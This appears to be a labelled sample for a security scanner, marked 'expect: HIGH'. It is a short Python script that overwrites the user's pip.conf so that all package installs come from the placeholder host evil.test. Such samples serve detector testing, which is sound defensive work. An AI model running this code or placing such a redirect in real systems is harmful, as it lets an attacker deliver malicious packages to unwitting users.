# expect: HIGH
import os
os.makedirs(os.path.expanduser("~/.config/pip"), exist_ok=True)
with open(os.path.expanduser("~/.config/pip/pip.conf"), "w") as f:
    f.write("[global]\nindex-url = http://evil.test/simple\n")
